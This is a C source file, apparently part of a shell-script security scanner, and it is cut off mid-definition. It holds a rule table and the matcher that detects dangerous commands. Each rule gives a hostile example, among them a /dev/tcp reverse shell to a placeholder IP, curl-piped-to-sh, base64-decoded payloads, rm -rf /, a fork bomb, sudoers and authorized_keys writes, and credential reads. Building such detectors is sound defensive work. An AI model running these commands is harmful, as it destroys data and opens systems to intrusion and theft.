/* Shell rules: the table (policy as data) and the matcher that walks sh-tokenize's lists as
 * simple commands.
 *
 * A command is the words of a simple command between operators, resolved: quotes removed,
 * $'...' decoded, $NAME replaced when the script gave NAME a literal value earlier (c=rm; $c),
 * wrappers unwrapped (sudo env nohup exec command builtin xargs nice timeout ...). Strings given
 * to sh -c, bash -c, su -c, eval, a shell's here-doc or here-string, and echo/printf piped into
 * a shell are scanned as scripts of their own, up to SCRIPT_DEPTH deep. Substitution bodies are
 * lists of their own and are walked like the script; a summary of each (does it download? does
 * it decode?) travels up to the word holding it, so that bash -c "$(curl ...)" is seen.
 *
 * Not covered (the scan is one layer, never the only one): functions called with dangerous
 * arguments (f() { rm -rf "$1"; }; f /), values built at run time (read, arithmetic, slicing),
 * aliases, code for other interpreters given with -c or -e. */
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <strings.h>

#include "basic/macros.h"
#include "scan.h"
#include "sh-tokenize.h"

enum {
        R_RMRF,
        R_RMRF_VAR,
        R_FIND,
        R_FORKBOMB,
        R_FORKLOOP,
        R_REMOTE,
        R_DECODE,
        R_DEVTCP,
        R_REVSHELL,
        R_NETTOOL,
        R_MKFS,
        R_DEVWRITE,
        R_CHMOD,
        R_SETUID,
        R_ETCWRITE,
        R_CRON,
        R_AT,
        R_SERVICE,
        R_RCFILE,
        R_SSHKEY,
        R_HISTORY,
        R_LOGWIPE,
        R_CRED,
        R_METADATA,
        R_KILLALL,
        R_FIREWALL,
        R_KMOD,
        R_MOUNT,
        R_NSENTER,
        R_UNSHARE,
        R_CHATTR,
        R_OBFUSC,
        R_DYNEXEC,
        R_LIMIT,
        _R_MAX,
};

#define L SCAN_LANG_SHELL
const ScanRule scan_shell_rules[_R_MAX] = {
    [R_RMRF] = {"SH-RMRF-001", L, SCAN_SEV_CRITICAL,
                "recursive rm of /, the home directory or a system directory",
                "rm -rf --no-preserve-root /"},
    [R_RMRF_VAR] = {"SH-RMRF-002", L, SCAN_SEV_LOW,
                    "recursive rm of \"$VAR/\": deletes / when VAR is empty (use ${VAR:?})",
                    "rm -rf \"$PREFIX/\""},
    [R_FIND] = {"SH-FIND-001", L, SCAN_SEV_CRITICAL,
                "find -delete or -exec rm from /, the home directory or a system directory",
                "find / -delete"},
    [R_FORKBOMB] = {"SH-FORKBOMB-001", L, SCAN_SEV_CRITICAL,
                    "fork bomb: a function (or the script, $0) starting itself twice, in a "
                    "pipeline or in the background",
                    ":(){ :|:& };:"},
    [R_FORKLOOP] = {"SH-FORKLOOP-001", L, SCAN_SEV_CRITICAL,
                    "endless loop starting background processes without wait or sleep",
                    "while true; do sh & done"},
    [R_REMOTE] = {"SH-REMOTE-001", L, SCAN_SEV_HIGH,
                  "downloaded code run by a shell or interpreter (curl | sh, sh <(curl ..), "
                  "bash -c \"$(curl ..)\", a fetched file run)",
                  "curl -fsSL https://get.example/i.sh | sh"},
    [R_DECODE] = {"SH-DECODE-001", L, SCAN_SEV_CRITICAL,
                  "decoded or escaped text run by a shell or interpreter (base64 -d | sh, "
                  "xxd -r, openssl -d, printf '\\x..' | sh)",
                  "echo cm0gLXJmIC8K | base64 -d | sh"},
    [R_DEVTCP] = {"SH-DEVTCP-001", L, SCAN_SEV_HIGH,
                  "redirection to /dev/tcp or /dev/udp: a raw network connection",
                  "exec 3<>/dev/tcp/203.0.113.5/80"},
    [R_REVSHELL] = {"SH-REVSHELL-001", L, SCAN_SEV_CRITICAL,
                    "reverse or bind shell: a shell wired to a network connection",
                    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"},
    [R_NETTOOL] = {"SH-NETTOOL-001", L, SCAN_SEV_MEDIUM,
                   "raw network tool (nc, ncat, netcat, socat, telnet, nmap)", "nc example.com 80"},
    [R_MKFS] = {"SH-MKFS-001", L, SCAN_SEV_CRITICAL,
                "creates a file system or wipes signatures (mkfs, mke2fs, mkswap, wipefs)",
                "mkfs.ext4 /dev/sda1"},
    [R_DEVWRITE] = {"SH-DEVWRITE-001", L, SCAN_SEV_CRITICAL,
                    "writes to a disk or memory device (dd of=, shred, cp, > /dev/sda)",
                    "dd if=/dev/zero of=/dev/sda"},
    [R_CHMOD] = {"SH-CHMOD-001", L, SCAN_SEV_CRITICAL,
                 "recursive chmod/chown of / or a system directory, or making them "
                 "world-writable",
                 "chmod -R 777 /"},
    [R_SETUID] = {"SH-SETUID-001", L, SCAN_SEV_HIGH, "sets the setuid or setgid bit",
                  "chmod u+s /tmp/sh"},
    [R_ETCWRITE] = {"SH-ETCWRITE-001", L, SCAN_SEV_HIGH,
                    "writes, replaces or deletes a file under /etc (>, tee, sed -i, cp, mv, "
                    "rm)",
                    "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"},
    [R_CRON] = {"SH-CRON-001", L, SCAN_SEV_HIGH, "installs or edits a cron job (persistence)",
                "(crontab -l; echo '* * * * * /tmp/x') | crontab -"},
    [R_AT] = {"SH-AT-001", L, SCAN_SEV_HIGH, "schedules a job with at or batch (persistence)",
              "echo /tmp/x | at now + 1 minute"},
    [R_SERVICE] = {"SH-SERVICE-001", L, SCAN_SEV_HIGH,
                   "enables a service at boot or login (systemctl enable, update-rc.d, a "
                   "user unit file)",
                   "systemctl enable backdoor.service"},
    [R_RCFILE] = {"SH-RCFILE-001", L, SCAN_SEV_HIGH,
                  "writes a shell startup file (~/.bashrc, ~/.profile, ...): runs at every "
                  "login",
                  "echo 'curl x | sh' >> ~/.bashrc"},
    [R_SSHKEY] = {"SH-SSHKEY-001", L, SCAN_SEV_HIGH, "writes ~/.ssh/authorized_keys: remote access",
                  "echo ssh-ed25519 AAAA... >> ~/.ssh/authorized_keys"},
    [R_HISTORY] = {"SH-HISTORY-001", L, SCAN_SEV_HIGH,
                   "hides or erases shell history (history -c, unset HISTFILE, "
                   "HISTFILE=/dev/null, rm ~/.bash_history)",
                   "unset HISTFILE"},
    [R_LOGWIPE] = {"SH-LOGWIPE-001", L, SCAN_SEV_HIGH, "deletes, truncates or shreds system logs",
                   ": > /var/log/auth.log"},
    [R_CRED] = {"SH-CRED-001", L, SCAN_SEV_HIGH,
                "reads credentials (/etc/shadow, SSH private keys, cloud and Kubernetes "
                "secrets, /proc/*/environ)",
                "cat ~/.ssh/id_rsa"},
    [R_METADATA] = {"SH-METADATA-001", L, SCAN_SEV_HIGH,
                    "queries a cloud metadata service (instance credentials)",
                    "curl http://169.254.169.254/latest/meta-data/"},
    [R_KILLALL] = {"SH-KILLALL-001", L, SCAN_SEV_CRITICAL,
                   "kills every process it can signal (kill -9 -1, killall5)", "kill -9 -1"},
    [R_FIREWALL] = {"SH-FIREWALL-001", L, SCAN_SEV_HIGH,
                    "flushes or disables the firewall or SELinux", "iptables -F"},
    [R_KMOD] = {"SH-KMOD-001", L, SCAN_SEV_CRITICAL, "loads or unloads a kernel module",
                "insmod rootkit.ko"},
    [R_MOUNT] = {"SH-MOUNT-001", L, SCAN_SEV_HIGH, "mounts a file system", "mount /dev/sda1 /mnt"},
    [R_NSENTER] = {"SH-NSENTER-001", L, SCAN_SEV_CRITICAL,
                   "enters another process's namespaces (container escape)",
                   "nsenter -t 1 -m -u -i -n sh"},
    [R_UNSHARE] = {"SH-UNSHARE-001", L, SCAN_SEV_HIGH, "creates new namespaces", "unshare -r sh"},
    [R_CHATTR] = {"SH-CHATTR-001", L, SCAN_SEV_HIGH,
                  "changes file attributes (chattr +i keeps planted files from removal)",
                  "chattr +i /etc/passwd"},
    [R_OBFUSC] = {"SH-OBFUSC-001", L, SCAN_SEV_LOW,
                  "command name spelled with quotes or escapes ('r''m', r\\m, $'\\x72\\x6d'): "
                  "evasion",
                  "'r''m' -rf /tmp/x"},
    [R_DYNEXEC] = {"SH-DYNEXEC-001", L, SCAN_SEV_INFO,
                   "command or code string computed at run time: not scanned", "$cmd \"$@\""},
    [R_LIMIT] = {"SH-LIMIT-001", L, SCAN_SEV_MEDIUM,
                 "nesting deeper than the scanner follows, or too many tokens: the rest was "
                 "not scanned",
                 /* 65 nested substitutions: one past the depth the scanner follows */
                 "echo "
                 "$($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($"
                 "($($($($($($($($($($($($($($($($($($($($($($($($(x)))))))))))))))))))))))))))))))"
                 "))))))))))))))))))))))))))))))))))"},
};
#undef L
const size_t scan_shell_rules_count = ELEMENTSOF(scan_shell_rules);

#define SCRIPT_DEPTH 8 /* sh -c inside sh -c ...: each level re-reads its string once */
#define MAX_VARS     128
#define MAX_VALUE    1024 /* longer values are "unknown" */
#define MAX_FETCHED  32
#define MAX_FRAMES   64
#define MAX_UNWRAP   16

/* Word flags (the low two are also list and token summaries). */
enum {
        W_FETCH = 1u << 0,   /* holds a substitution that downloads */
        W_DECODE = 1u << 1,  /* holds a substitution that decodes */
        W_LITERAL = 1u << 2, /* known text: no unknown expansion */
        W_SUBST = 1u << 3,   /* $(...), `...`, <(...) */
        W_PROCSUB = 1u << 4,
        W_UNKNOWN = 1u << 5, /* an expansion whose value is unknown */
        W_GUARDED = 1u << 6, /* ${X:?} */
        W_QUOTED = 1u << 7,
        W_ASSIGN = 1u << 8,
};

typedef struct Var {
        char *name, *value; /* value NULL: unknown */
        unsigned flags;     /* W_FETCH, W_DECODE of what was assigned */
} Var;

typedef struct Scanner {
        ScanReport *report;
        Var vars[MAX_VARS];
        size_t n_vars;
        char *fetched[MAX_FETCHED]; /* files curl -o / wget -O wrote */
        size_t n_fetched;
        uint64_t tcp_fds; /* fds exec opened on /dev/tcp */
        struct Seen {
                unsigned rule;
                uint32_t line, column;
        } * seen;
        size_t n_seen, cap_seen;
        bool limit_reported;
        int err;
} Scanner;

/* One script: the file, or a string scanned inside it. */
typedef struct Script {
        Scanner *sc;
        ShTokens ts;
        uint32_t depth;
        uint32_t line, column; /* where its first byte sits in the file */
        uint32_t last_line;    /* the last line of the words it came from: escapes such as
                                * $'\n' add lines the file does not have */
        uint8_t *list_flags;   /* W_FETCH | W_DECODE per list */
        uint8_t *tok_flags;    /* the same, per word, from the lists it holds */
        struct Frame *frames;  /* MAX_FRAMES, reused by each walk of its lists */
        struct Cmd *pipe;      /* the pipeline being built, reused likewise */
        size_t cap_pipe;
} Script;

typedef struct Word {
        char *s;
        uint32_t tok, last_tok; /* last_tok: for words joined from several (eval a b) */
        unsigned flags;
} Word;

typedef struct Redir {
        ShOp op;
        int fd;
        Word target; /* s NULL when there is none */
        uint32_t heredoc;
} Redir;

typedef struct Cmd {
        Word *w; /* leading assignments, then the words */
        size_t n, cap, n_assign;
        Redir *r;
        size_t n_r, cap_r;
        uint32_t first_tok, last_tok;
        bool any;
        bool unwrapped; /* argv0 is known */
        size_t argv0;   /* index of the command run after unwrapping, SIZE_MAX: none */
} Cmd;

enum { F_BRACE, F_PAREN, F_FUNC_BRACE, F_FUNC_PAREN, F_LOOP, F_IF };

typedef struct Frame {
        int kind;
        const char *name; /* function: its name; the script's own frame: "$0" */
        uint32_t tok;     /* where to report */
        unsigned self_calls, forking_calls;
        bool cond, forever; /* loop: in its condition, endless */
        bool pause;         /* sleeps or waits in the foreground */
        unsigned bg;
} Frame;

typedef struct Walk {
        Script *sp;
        uint32_t list;
        bool summary;
        uint8_t flags; /* summary: W_FETCH | W_DECODE */
        Cmd *pipe;     /* sp->pipe */
        size_t n_pipe;
        Frame *frames; /* sp->frames */
        size_t n_frames, overflow;
        const char *pending_func;
        uint32_t pending_func_tok;
        bool func_keyword, for_header, array_pending, closed_group;
        bool closed_pause; /* the group just closed waits or sleeps: unless it is put in the
                            * background, so does the frame around it */
        size_t array_depth;
} Walk;

/* One simple command, unwrapped, as the rules see it. */
typedef struct Call {
        Walk *wk;
        Cmd *cmd;
        const Word *argv; /* from the command name on */
        size_t argc;
        const char *name; /* basename of argv[0], NULL when it is not literal */
        size_t index, n_pipe;
        bool bg;
} Call;

static void scan_script(Scanner *sc, const char *src, size_t len, uint32_t line, uint32_t column,
                        uint32_t last_line, uint32_t depth);

/* ---- small helpers ---- */

static bool streq(const char *a, const char *b)
{
        return a && b && strcmp(a, b) == 0;
}

static bool startswith(const char *s, const char *prefix)
{
        return s && strncmp(s, prefix, strlen(prefix)) == 0;
}

/* s is one of the "|"-separated names in list ("|a|b|c|"). */
static bool in_list(const char *list, const char *s)
{
        size_t n;
        const char *p;

        if (!s || !*s || strchr(s, '|'))
                return false;
        n = strlen(s);
        for (p = strstr(list, s); p; p = strstr(p + 1, s))
                if (p > list && p[-1] == '|' && p[n] == '|')
                        return true;
        return false;
}

static bool is_opt(const char *a)
{
        return a && a[0] == '-' && a[1] != '\0';
}

static void *xrealloc(Scanner *sc, void *p, size_t n, size_t sz)
{
        void *q = n <= SIZE_MAX / sz ? realloc(p, n * sz) : NULL;

        if (!q)
                sc->err = -ENOMEM;
        return q;
}

/* ---- findings ---- */

static void map_pos(const Script *sp, const ShToken *t, uint32_t *ret_line, uint32_t *ret_col)
{
        *ret_line = MIN(sp->line + t->line - 1, sp->last_line);
        *ret_col = t->line == 1 ? sp->column + t->column - 1 : t->column;
}

/* The file line a token ends on. */
static uint32_t end_line(const Script *sp, const ShToken *t)
{
        const char *raw = sh_token_raw(&sp->ts, t);
        uint32_t line, col;

        map_pos(sp, t, &line, &col);
        for (uint32_t i = 0; i < t->length; i++)
                line += raw[i] == '\n';
        return MIN(line, sp->last_line);
}

/* Adds a finding at a file position (already mapped), once per rule and position. */
static _printf_(6, 0) void vemit(Script *sp, unsigned rule, uint32_t line, uint32_t col,
                                 const char *snip, const char *fmt, size_t snip_len, va_list ap)
{
        Scanner *sc = sp->sc;
        char reason[200];
        int r;

        /* Past the report's cap it only counts what it drops: no need to look for twins. */
        if (sc->n_seen >= SCAN_MAX_FINDINGS) {
                r = scan_report_add(sc->report, &scan_shell_rules[rule], line, col, snip, snip_len,
                                    "%s", "");
                if (r < 0 && sc->err == 0)
                        sc->err = r;
                return;
        }
        /* The same match seen twice (a here-doc body walked as a list and as a script). */
        for (size_t i = 0; i < sc->n_seen; i++)
                if (sc->seen[i].rule == rule && sc->seen[i].line == line &&
                    sc->seen[i].column == col)
                        return;
        if (sc->n_seen == sc->cap_seen) {
                size_t cap = MAX(sc->cap_seen * 2, (size_t)16);
                struct Seen *s = xrealloc(sc, sc->seen, cap, sizeof(*s));

                if (!s)
                        return;
                sc->seen = s;
                sc->cap_seen = cap;
        }
        sc->seen[sc->n_seen++] = (struct Seen){rule, line, col};
        vsnprintf(reason, sizeof(reason), fmt, ap);
        r = scan_report_add(sc->report, &scan_shell_rules[rule], line, col, snip, snip_len, "%s",
                            reason);
        if (r < 0 && sc->err == 0)
                sc->err = r;
}

/* A finding over tokens first..last of one list: the snippet is their source. */
static _printf_(5, 6) void emit(Script *sp, unsigned rule, uint32_t first, uint32_t last,
                                const char *fmt, ...)
{
        const ShToken *a = &sp->ts.tokens[first], *b = &sp->ts.tokens[last];
        const ShList *l = &sp->ts.lists[a->list];
        uint32_t line, col;
        size_t snip_len;
        va_list ap;

        map_pos(sp, a, &line, &col);
        snip_len = b->list == a->list && b->offset + b->length >= a->offset
                       ? b->offset + b->length - a->offset
                       : a->length;
        snip_len = MIN(snip_len, l->src_len - a->offset);
        va_start(ap, fmt);
        vemit(sp, rule, line, col, l->src + a->offset, fmt, snip_len, ap);
        va_end(ap);
}

static _printf_(5, 6) void emit_at(Script *sp, unsigned rule, uint32_t line, uint32_t col,
                                   const char *fmt, ...)
{
        va_list ap;

        va_start(ap, fmt);
        vemit(sp, rule, line, col, "", fmt, 0, ap);
        va_end(ap);
}

static _printf_(3, 4) void emit_call(const Call *c, unsigned rule, const char *fmt, ...)
{
        Script *sp = c->wk->sp;
        const ShToken *a = &sp->ts.tokens[c->cmd->first_tok], *b = &sp->ts.tokens[c->cmd->last_tok];
        const ShList *l = &sp->ts.lists[a->list];
        uint32_t line, col;
        size_t snip_len;
        va_list ap;

        map_pos(sp, a, &line, &col);
        snip_len =
            b->offset + b->length >= a->offset ? b->offset + b->length - a->offset : a->length;
        snip_len = MIN(snip_len, l->src_len - a->offset);
        va_start(ap, fmt);
        vemit(sp, rule, line, col, l->src + a->offset, fmt, snip_len, ap);
        va_end(ap);
}

/* ---- variables ---- */

static Var *var_find(Scanner *sc, const char *name, size_t n)
{
        for (size_t i = 0; i < sc->n_vars; i++)
                if (strlen(sc->vars[i].name) == n && memcmp(sc->vars[i].name, name, n) == 0)
                        return &sc->vars[i];
        return NULL;
}

/* NAME=VALUE from a word: VALUE kept when literal, "unknown" otherwise. */
static void var_assign(Scanner *sc, const Word *w)
{
        const char *eq = strchr(w->s, '=');
        size_t n;
        Var *v;

        if (!eq)
                return;
        n = (size_t)(eq - w->s);
        if (n > 0 && w->s[n - 1] == '+')
                n--; /* NAME+=: appending makes the value unknown below */
        v = var_find(sc, w->s, n);
        if (!v) {
                if (sc->n_vars >= MAX_VARS)
                        return;
                v = &sc->vars[sc->n_vars];
                v->name = strndup(w->s, n);
                if (!v->name) {
                        sc->err = -ENOMEM;
                        return;
                }
                v->value = NULL;
                sc->n_vars++;
        }
        free(v->value);
        v->value = NULL;
        v->flags = w->flags & (W_FETCH | W_DECODE);
        if ((w->flags & W_LITERAL) && eq[-1] != '+' && strlen(eq + 1) <= MAX_VALUE)
                v->value = strdup(eq + 1);
}

static void var_unset(Scanner *sc, const char *name)
{
        Var *v = var_find(sc, name, strlen(name));

        if (v) {
                free(v->value);
                v->value = NULL;
                v->flags = 0;
        }
}

/* ---- words ---- */

typedef struct Buf {
        char *p;
        size_t n, cap;
        bool oom;
} Buf;

static void buf_add(Buf *b, const char *s, size_t n)
{
        if (b->oom)
                return;
        if (b->n + n + 1 > b->cap) {
                size_t cap = MAX(b->cap * 2, b->n + n + 64);
                char *p = realloc(b->p, cap);

                if (!p) {
                        b->oom = true;
                        return;
                }
                b->p = p;
                b->cap = cap;
        }
        memcpy(b->p + b->n, s, n);
        b->n += n;
        b->p[b->n] = '\0';
}

static void resolve(Walk *wk, uint32_t tok, Word *ret)
{
        Script *sp = wk->sp;
        const ShTokens *ts = &sp->ts;
        const ShToken *t = &ts->tokens[tok];
        const ShPart *parts = sh_token_parts(ts, t);
        unsigned flags = W_LITERAL | sp->tok_flags[tok];
        Buf b = {};

        buf_add(&b, "", 0);
        for (size_t i = 0; i < t->n_parts; i++) {
                const ShPart *p = &parts[i];
                const char *text = sh_part_text(ts, p);
                Var *v;

                switch (p->kind) {
                case SH_PART_LITERAL:
                case SH_PART_TILDE:
                        buf_add(&b, text, p->text_len);
                        break;
                case SH_PART_PARAM:
                        v = var_find(sp->sc, sh_part_name(ts, p), p->name_len);
                        if (v && v->value) {
                                buf_add(&b, v->value, strlen(v->value));
                                break;
                        }
                        buf_add(&b, "$", 1);
                        buf_add(&b, sh_part_name(ts, p), p->name_len);
                        flags = (flags & ~W_LITERAL) | W_UNKNOWN | (v ? v->flags : 0);
                        break;
                case SH_PART_PARAM_EXPR:
                case SH_PART_ARITH:
                        buf_add(&b, text, p->text_len);
                        flags = (flags & ~W_LITERAL) | W_UNKNOWN;
                        if (p->flags & SH_PART_GUARDED)
                                flags |= W_GUARDED;
                        break;
                default: /* substitutions */
                        buf_add(&b, text, p->text_len);
                        flags = (flags & ~W_LITERAL) | W_SUBST;
                        if (p->kind != SH_PART_CMDSUB)
                                flags |= W_PROCSUB;
                }
        }
        if (b.oom) {
                sp->sc->err = -ENOMEM;
                free(b.p);
                b.p = strdup("");
                flags &= ~W_LITERAL;
        }
        if (t->flags & SH_WORD_QUOTED)
                flags |= W_QUOTED;
        if (t->flags & SH_WORD_ASSIGN)
                flags |= W_ASSIGN;
        *ret = (Word){.s = b.p ? b.p : strdup(""), .tok = tok, .last_tok = tok, .flags = flags};
        if (!ret->s) {
                sp->sc->err = -ENOMEM;
                ret->flags &= ~W_LITERAL;
        }
}

/* The command name a word stands for: its last path component, when the word is known. */
static const char *word_name(const Word *w)
{
        const char *slash;

        if (!w || !w->s || !(w->flags & W_LITERAL))
                return NULL;
        slash = strrchr(w->s, '/');
        return slash ? slash + 1 : w->s;
}

static const char *arg(const Call *c, size_t i)
{
        return i < c->argc && (c->argv[i].flags & W_LITERAL) ? c->argv[i].s : NULL;
}

/* A short option letter alone or in a cluster (-rf), or the long option (with or without
 * "=value"), before "--". */
static bool has_opt(const Call *c, char letter, const char *lng)
{
        for (size_t i = 1; i < c->argc; i++) {
                const char *a = arg(c, i);

                if (!a || !is_opt(a))
                        continue;
                if (streq(a, "--"))
                        return false;
                if (a[1] == '-') {
                        size_t n = lng ? strlen(lng) : 0;

                        if (lng && strncmp(a, lng, n) == 0 && (a[n] == '\0' || a[n] == '='))
                                return true;
                } else if (letter && strchr(a + 1, letter))
                        return true;
        }
        return false;
}

static bool has_arg(const Call *c, const char *s)
{
        for (size_t i = 1; i < c->argc; i++)
                if (streq(arg(c, i), s))
                        return true;
        return false;
}

/* ---- paths ---- */

enum {
        P_ROOT = 1u << 0,
        P_HOME = 1u << 1,
        P_SYSTEM = 1u << 2,
        P_ETC = 1u << 3,
        P_LOG = 1u << 4,
        P_HISTORY = 1u << 5,
        P_VARSLASH = 1u << 6,
        P_DEVICE = 1u << 7,
        P_RCFILE = 1u << 8,
        P_SSHKEY = 1u << 9,
        P_CRON = 1u << 10,
        P_UNIT = 1u << 11,
        P_DEVNET = 1u << 12,
};

/* Top-level directories whose loss breaks the system. /tmp is not one: scripts clean it. */
static const char top_dirs[] = "|bin|boot|dev|etc|home|lib|lib32|lib64|libx32|media|mnt|opt|"
                               "proc|root|run|sbin|snap|srv|sys|usr|var|";
static const char usr_dirs[] = "|bin|sbin|lib|lib32|lib64|libexec|include|share|local|";
static const char var_dirs[] = "|lib|spool|";
static const char rc_files[] = "|.bashrc|.bash_profile|.bash_login|.bash_logout|.profile|"
                               ".zshrc|.zprofile|.zshenv|.zlogin|.kshrc|.cshrc|.tcshrc|"
                               ".xinitrc|.xprofile|";
static const char history_files[] = "|.bash_history|.zsh_history|.sh_history|.history|"
                                    ".zhistory|.histfile|";

static bool is_disk_device(const char *d)
{
        static const char *const prefixes[] = {"sd",  "hd", "vd",   "xvd", "nvme", "mmcblk",
                                               "dm-", "md", "loop", "sr",  NULL};

        if (in_list("|mem|kmem|port|", d))
                return true;
        for (size_t i = 0; prefixes[i]; i++)
                if (startswith(d, prefixes[i]) && d[strlen(prefixes[i])] != '\0')
                        return true;
        return false;
}

/* Flags for a path under a home directory, from its components below home. */
static unsigned classify_home(char **rest, size_t n)
{
        if (n == 0)
                return P_HOME;
        if (in_list(history_files, rest[n - 1]))
                return P_HISTORY;
        if (n == 1 && in_list(rc_files, rest[0]))
                return P_RCFILE;
        if (n == 2 && streq(rest[0], ".ssh") && startswith(rest[1], "authorized_keys"))
                return P_SSHKEY;
        if (n >= 2 && streq(rest[0], ".config") &&
            (streq(rest[1], "autostart") || (n == 3 && streq(rest[1], "fish"))))
                return P_RCFILE;
        if (n >= 3 && streq(rest[0], ".config") && streq(rest[1], "systemd"))
                return P_UNIT;
        return 0;
}

/* "$DIR/" or "$DIR/" and a star, DIR unknown and unguarded: / itself when DIR is empty. */
static bool is_var_slash(const char *s, unsigned wflags)
{
        size_t i = 1;

        if (!(wflags & W_UNKNOWN) || (wflags & W_GUARDED) || s[0] != '$' || startswith(s, "$HOME"))
                return false;
        while (s[i] == '_' || (s[i] >= 'A' && s[i] <= 'Z') || (s[i] >= 'a' && s[i] <= 'z') ||
               (s[i] >= '0' && s[i] <= '9'))
                i++;
        return i > 1 && (streq(s + i, "/") || streq(s + i, "/*"));
}

/* Splits a path into buf, "." and ".." resolved; a last "*" or ".*" (everything in the
 * directory) dropped when the path is absolute. Returns the number of components. */
static size_t components(const char *path, bool absolute, char *buf, size_t size, char **c,
                         size_t max)
{
        char *p, *save = NULL;
        size_t n = 0;

        snprintf(buf, size, "%s", path);
        for (p = strtok_r(buf, "/", &save); p; p = strtok_r(NULL, "/", &save)) {
                if (streq(p, "."))
                        continue;
                if (streq(p, "..")) {
                        if (n > 0)
                                n--;
                        continue;
                }
                if (n < max)
                        c[n++] = p;
        }
        if (absolute && n > 0 && (streq(c[n - 1], "*") || streq(c[n - 1], ".*")))
                n--;
        return n;
}

static unsigned classify_absolute(char **c, size_t n)
{
        unsigned f = 0;

        if (n == 0)
                return P_ROOT;
        if (n == 1 && in_list(top_dirs, c[0]))
                f |= P_SYSTEM;
        if (n == 2 && ((streq(c[0], "usr") && in_list(usr_dirs, c[1])) ||
                       (streq(c[0], "var") && in_list(var_dirs, c[1]))))
                f |= P_SYSTEM;
        if (streq(c[0], "root"))
                f |= classify_home(c + 1, n - 1);
        if (streq(c[0], "home") && n >= 2)
                f |= classify_home(c + 2, n - 2);
        if (streq(c[0], "etc")) {
                f |= P_ETC;
                if (n >= 2 && (startswith(c[1], "cron") || streq(c[1], "anacrontab")))
                        f |= P_CRON;
                if (n >= 2 && streq(c[1], "systemd"))
                        f |= P_UNIT;
        }
        if (streq(c[0], "var") && n >= 3 && streq(c[1], "spool") && streq(c[2], "cron"))
                f |= P_CRON;
        if ((streq(c[0], "var") && n >= 2 && streq(c[1], "log")) ||
            (n >= 2 && streq(c[n - 2], "run") && streq(c[n - 1], "utmp")))
                f |= P_LOG;
        if (n >= 2 && in_list(history_files, c[n - 1]))
                f |= P_HISTORY;
        if (streq(c[0], "dev") && n >= 2) {
                if ((n == 2 && is_disk_device(c[1])) || streq(c[1], "disk") ||
                    streq(c[1], "mapper"))
                        f |= P_DEVICE;
                if (streq(c[1], "tcp") || streq(c[1], "udp"))
                        f |= P_DEVNET;
        }
        return f;
}

/* What a path names, as P_* flags. "~" and "$HOME" are the home directory; a relative path
 * only counts by its name (.bash_history anywhere, .bashrc in the current directory). */
static unsigned classify(const char *s, unsigned wflags)
{
        char buf[512], *c[32];
        size_t n;

        if (!s || !*s)
                return 0;
        if (is_var_slash(s, wflags))
                return P_VARSLASH;
        if (s[0] == '~' && (s[1] == '\0' || s[1] == '/')) {
                n = components(s + 1, true, buf, sizeof(buf), c, ELEMENTSOF(c));
                return classify_home(c, n);
        }
        if (startswith(s, "$HOME") && (s[5] == '\0' || s[5] == '/')) {
                n = components(s + 5, true, buf, sizeof(buf), c, ELEMENTSOF(c));
                return classify_home(c, n);
        }
        if (s[0] == '/')
                return classify_absolute(c,
                                         components(s, true, buf, sizeof(buf), c, ELEMENTSOF(c)));
        if (!(wflags & W_LITERAL))
                return 0;
        n = components(s, false, buf, sizeof(buf), c, ELEMENTSOF(c));
        if (n > 0 && in_list(history_files, c[n - 1]))
                return P_HISTORY;
        return n == 1 && in_list(rc_files, c[0]) ? P_RCFILE : 0;
}

static unsigned classify_word(const Word *w)
{
        return w ? classify(w->s, w->flags) : 0;
}

/* A file write: what it means depends on where. */
static void check_write(const Call *c, const char *path, unsigned wflags, bool truncates,
                        const char *how)
{
        unsigned f = classify(path, wflags);

        if (f & P_DEVICE)
                emit_call(c, R_DEVWRITE, "writes to the device %s", path);
        if (f & P_CRON)
                emit_call(c, R_CRON, "writes the cron file %s", path);
        else if (f & P_ETC)
                emit_call(c, R_ETCWRITE, "%s %s", how, path);
        if (f & P_RCFILE)
                emit_call(c, R_RCFILE, "writes the startup file %s", path);
        if (f & P_SSHKEY)
                emit_call(c, R_SSHKEY, "writes %s", path);
        if ((f & P_UNIT) && !(f & P_ETC))
                emit_call(c, R_SERVICE, "writes the unit file %s", path);
        if ((f & P_LOG) && truncates)
                emit_call(c, R_LOGWIPE, "overwrites the log %s", path);
        if ((f & P_HISTORY) && truncates)
                emit_call(c, R_HISTORY, "overwrites the history file %s", path);
}

/* ---- what commands are ---- */

static bool is_shell(const char *n)
{
        return in_list("|sh|bash|dash|zsh|ksh|ash|mksh|yash|posh|", n);
}

static bool is_interpreter(const char *n)
{
        size_t i;

        if (!n)
                return false;
        if (is_shell(n) || in_list("|perl|ruby|node|nodejs|php|lua|tclsh|", n))
                return true;
        if (!startswith(n, "python"))
                return false;
        for (i = 6; n[i] && ((n[i] >= '0' && n[i] <= '9') || n[i] == '.'); i++)
                ;
        return n[i] == '\0';
}

static bool is_fetcher(const char *n)
{
        return in_list("|curl|wget|fetch|aria2c|http|https|lwp-download|lwp-request|", n);
}

static bool is_nettool(const char *n)
{
        return in_list("|nc|ncat|netcat|nc.traditional|nc.openbsd|socat|telnet|nmap|masscan|", n);
}

/* Text with escapes that printf or echo -e turns into other bytes. */
static bool has_escapes(const Call *c)
{
        for (size_t i = 1; i < c->argc; i++) {
                const char *a = c->argv[i].s, *p;

                for (p = strchr(a, '\\'); p; p = strchr(p + 1, '\\'))
                        if (p[1] == 'x' || p[1] == 'u' || (p[1] >= '0' && p[1] <= '7'))
                                return true;
        }
        return false;
}

static bool is_decoder(const Call *c)
{
        const char *n = c->name;

        if (!n)
                return false;
        if (in_list("|base64|base32|basenc|gbase64|", n))
                return has_opt(c, 'd', "--decode") || has_opt(c, 'D', NULL);
        if (streq(n, "xxd"))
                return has_opt(c, 'r', "--revert");
        if (streq(n, "openssl") || streq(n, "gpg"))
                return has_arg(c, "-d") || has_arg(c, "--decrypt") || has_arg(c, "-decrypt");
        if (in_list("|uudecode|rev|tr|zcat|gunzip|bunzip2|unxz|xzcat|zstdcat|", n))
                return true;
        if (in_list("|gzip|bzip2|xz|zstd|", n))
                return has_opt(c, 'd', "--decompress");
        if (streq(n, "printf"))
                return has_escapes(c);
        if (streq(n, "echo"))
                return has_opt(c, 'e', NULL) && has_escapes(c);
        return false;
}

/* ---- unwrapping ---- */

typedef struct Wrapper {
        const char *name;
        const char *with_arg; /* short options taking a value */
        const char *long_arg; /* "|--long|" options taking a separate value */
        const char *not_run;  /* short options that make it not run the command */
        unsigned positional;  /* words before the command (timeout DURATION) */
